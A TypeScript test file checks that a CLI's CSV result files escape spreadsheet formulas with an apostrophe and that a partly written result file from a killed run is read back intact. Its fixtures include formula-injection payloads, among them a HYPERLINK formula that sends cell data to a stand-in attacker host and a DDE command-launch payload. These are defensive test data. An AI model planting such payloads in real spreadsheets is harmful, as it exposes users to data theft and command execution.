/** What `apply` writes is shown by a spreadsheet and not obeyed, and is read back by the next run. */
import { createHash } from "node:crypto";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type ApplyLine, headLine, lineOf, unfinished } from "../../src/cli/lib/apply-result.js";
import { cli } from "../cli/run.js";
import { engineThatSays } from "./hostile.js";

let folder: string;
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), "csv-"));
});
afterEach(() => rm(folder, { recursive: true, force: true }));

const FORMULAS = {
  "a formula": '=HYPERLINK("http://evil.example/?"&A1)',
  "a formula with a plus": "+1+cmd|' /C calc'!A0",
  "a formula with a minus": "-2+3",
  "an @": "@SUM(1+1)",
  "a tab before": "\t=1+1",
  "a carriage return before": "\r=1+1",
  "a newline before": "\n=1+1",
  "a blank before": " =1+1",
  "a wide equals sign": "\uff1d1+1",
};
const AS_THEY_ARE = ["1001", "-100", "+46", "-99.50", "A-1", "no such status", "a=b", "a,b", 'say "no"', "two\nlines"];

const resultOf = (line: number, text: string): ApplyLine => {
  return { line, order_id: text, wanted: text, outcome: "error", status: text, reason: text, says: text };
};
const linesOf = (results: ApplyLine[]) => results.map(({ line }) => line);
const cellsOf = (text: string): string[] => (parse(lineOf(resultOf(1, text))) as string[][])[0] ?? [];

describe("doors low: a cell of a result file", () => {
  it.each(Object.entries(FORMULAS))("with %s is a text", (_, text) => {
    for (const cell of cellsOf(text).filter((_, i) => ![0, 3].includes(i))) expect(cell).toBe(`'${text}`);
  });

  it.each(AS_THEY_ARE)("with %j is left as it is", (text) => {
    expect(cellsOf(text)).toEqual(["1", text, text, "error", text, text, text]);
  });

  it("is read back as it was, with an apostrophe of its own too", async () => {
    const texts = [...Object.values(FORMULAS), ...AS_THEY_ARE, "'", "'=1", "''", "'s-Hertogenbosch"];
    const done = texts.map((text, i) => resultOf(i + 1, text));
    const part = join(folder, "part");
    await writeFile(part, `# run r of h\n${headLine}${done.map(lineOf).join("")}`);
    expect(await unfinished(part, "h", linesOf(done))).toEqual({ runId: "r", done });
  });

  it("may be torn anywhere: the rows before are known, and nothing is made up", async () => {
    const done = ["a", 'two\nlines, "quoted"', "=1", "last\n\n"].map((text, i) => resultOf(i + 1, text));
    const whole = `# run r of h\n${headLine}${done.map(lineOf).join("")}`;
    const part = join(folder, "part");
    for (let end = "# run r of h\n".length; end <= whole.length; end++) {
      await writeFile(part, whole.slice(0, end));
      const read = (await unfinished(part, "h", linesOf(done)))?.done ?? [];
      expect(read).toEqual(done.slice(0, read.length));
    }
    expect((await unfinished(part, "h", linesOf(done)))?.done).toEqual(done);
  });
});

describe("doors low: apply", () => {
  const file = () => join(folder, "erp.csv");
  const texts = ["=1+1", "@SUM(A1)", "-2+3"];
  const rowsOf = async () =>
    parse(await readFile(join(folder, "erp.result.csv"), "utf8"), { columns: true }) as Record<string, string>[];

  it("writes what an ERP's file and an engine say as texts", async () => {
    await writeFile(file(), stringify([["order_id", "status"], ...texts.map((text) => [text, "completed"])]));
    const engine = await engineThatSays("=2+2");
    try {
      await cli(["apply", file(), "--url", engine.url]);
    } finally {
      await engine.close();
    }
    expect((await rowsOf()).map(({ order_id, status, reason }) => [order_id, status, reason])).toEqual(
      texts.map((text) => [`'${text}`, "'=2+2", "'=2+2"]),
    );
  });

  it("goes on where a killed run was, with such cells in what that one wrote", async () => {
    const text = stringify([["order_id", "status"], ...texts.map((one) => [one, "completed"])]);
    await writeFile(file(), text);
    const engine = await engineThatSays("no");
    const hash = createHash("sha256").update(`${engine.url}\n${text}`).digest("hex").slice(0, 16);
    const before = texts.slice(0, 2).map((one, i) => ({ ...resultOf(i + 2, one), says: "of the run before" }));
    await writeFile(
      join(folder, "erp.result.csv.part"),
      `# run r of ${hash}\n${headLine}${before.map(lineOf).join("")}4,'=torn`,
    );
    try {
      const { out } = await cli(["apply", file(), "--url", engine.url, "--json"]);
      const { results } = JSON.parse(out) as { results: ApplyLine[] };
      expect(results.slice(0, 2)).toEqual(before);
      expect(results[2]).toMatchObject({ line: 4, order_id: "-2+3" });
    } finally {
      await engine.close();
    }
    expect((await rowsOf()).map(({ order_id }) => order_id)).toEqual(texts.map((one) => `'${one}`));
  });
});
